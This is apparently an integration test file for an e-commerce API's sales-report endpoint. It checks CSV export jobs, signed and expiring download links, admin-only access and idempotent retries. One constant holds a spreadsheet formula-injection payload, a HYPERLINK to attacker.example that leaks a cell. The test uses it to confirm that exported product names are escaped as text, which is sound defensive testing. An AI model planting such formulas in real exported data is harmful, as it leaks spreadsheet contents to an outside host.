"""POST /reports: a sales report CSV written by a job, downloaded through a signed link."""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import httpx
from fastapi import FastAPI

from tests.integration.jobs.conftest import job, run_jobs
from tests.support.assertions import assert_error
from tests.support.auth import Caller
from tests.support.catalog import make_product
from tests.support.orders import pay, place
from tests.support.random_refs import unique

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


async def _report(client: httpx.AsyncClient, admin: Caller, **body: str) -> httpx.Response:
    today = datetime.now(UTC).date().isoformat()
    return await client.post(
        "/api/v1/reports",
        json={"type": "sales", "from": today, "to": today, **body},
        headers=admin.headers,
    )


async def test_a_sales_report_lists_the_paid_lines_with_formulas_kept_as_text(
    app: FastAPI, client: httpx.AsyncClient, admin: Caller, editor: Caller, customer: Caller
) -> None:
    formula = await make_product(client, editor, admin=admin, stock=10, name=FORMULA)
    plain = await make_product(client, editor, admin=admin, stock=10, name="@SUM(1+1)")
    order = (await place(client, customer, (formula["id"], 2), (plain["id"], 1))).json()["data"]
    assert (await pay(client, customer, order["id"])).status_code == 201
    unpaid = (await place(client, customer, (plain["id"], 1))).json()["data"]

    response = await _report(client, admin)
    assert response.status_code == 202, response.text
    location = response.headers["location"]
    assert location.endswith(f"/api/v1/jobs/{response.json()['data']['id']}")
    await run_jobs(app)
    done = await job(client, admin, location)
    assert done["status"] == "succeeded", done
    assert done["result"]["orders"] >= 1 and done["result"]["lines"] >= 2
    url = done["resultUrl"]
    assert url.startswith("http://agora.test/api/v1/jobs/")

    download = await client.get(url)  # no token: the signed link is the permission
    assert download.status_code == 200, download.text
    assert download.headers["content-type"].startswith("text/csv")
    assert "attachment" in download.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(download.text)))
    mine = [row for row in rows if row["orderId"] == order["id"]]
    assert {row["productName"] for row in mine} == {"'" + FORMULA, "'@SUM(1+1)"}
    line = next(row for row in mine if row["sku"] == formula["sku"])
    assert (line["quantity"], line["unitPriceCents"], line["currency"]) == (
        "2",
        str(formula["priceCents"]),
        "USD",
    )
    assert line["lineTotalCents"] == str(2 * formula["priceCents"])
    assert line["status"] == "paid" and line["customerId"] == customer.id
    assert not [row for row in rows if row["orderId"] == unpaid["id"]]  # not a sale

    tampered = url.replace("signature=", "signature=x")
    assert_error(await client.get(tampered), 404)
    assert_error(await client.get(url.replace("signature=", "signature=%C2%B4")), 400)
    clock = app.state.runtime.clock
    clock.offset += timedelta(hours=2)
    try:
        assert_error(await client.get(url), 404)  # expired
        fresh = await job(client, admin, location)  # a read signs a fresh link
        assert (await client.get(fresh["resultUrl"])).status_code == 200
    finally:
        clock.offset -= timedelta(hours=2)


async def test_reports_are_for_admins_and_their_bodies_are_checked(
    client: httpx.AsyncClient, admin: Caller, editor: Caller, customer: Caller
) -> None:
    assert_error(await _report(client, customer), 403)
    assert_error(await _report(client, editor), 403)
    backwards = await _report(client, admin, **{"from": "2026-02-01", "to": "2026-01-01"})
    assert_error(backwards, 422, "invalid_period")
    assert_error(await _report(client, admin, type="refunds"), 400)
    assert_error(await _report(client, admin, to="2026-02-30"), 400)
    answer = await _report(client, admin)
    other_admin_job = answer.headers["location"]
    assert_error(await client.get(other_admin_job, headers=customer.headers), 404)


async def test_a_report_of_an_empty_period_is_a_header_only_csv(
    app: FastAPI, client: httpx.AsyncClient, admin: Caller
) -> None:
    long_ago = (date(2001, 1, 1)).isoformat()
    response = await _report(client, admin, **{"from": long_ago, "to": long_ago})
    await run_jobs(app)
    done = await job(client, admin, response.headers["location"])
    assert done["result"]["orders"] == 0 and done["progress"] == {"done": 0, "total": 0}
    download = await client.get(done["resultUrl"])
    assert download.text.splitlines() == [
        "orderId,paidAt,status,customerId,sku,productName,quantity,unitPriceCents,"
        "lineTotalCents,currency"
    ]


async def test_a_retried_report_request_with_the_same_key_queues_one_job(
    client: httpx.AsyncClient, admin: Caller
) -> None:
    key = unique("report")
    today = datetime.now(UTC).date().isoformat()
    body = {"type": "sales", "from": today, "to": today}
    headers = {**admin.headers, "Idempotency-Key": key}
    first = await client.post("/api/v1/reports", json=body, headers=headers)
    second = await client.post("/api/v1/reports", json=body, headers=headers)
    assert first.json()["data"]["id"] == second.json()["data"]["id"]
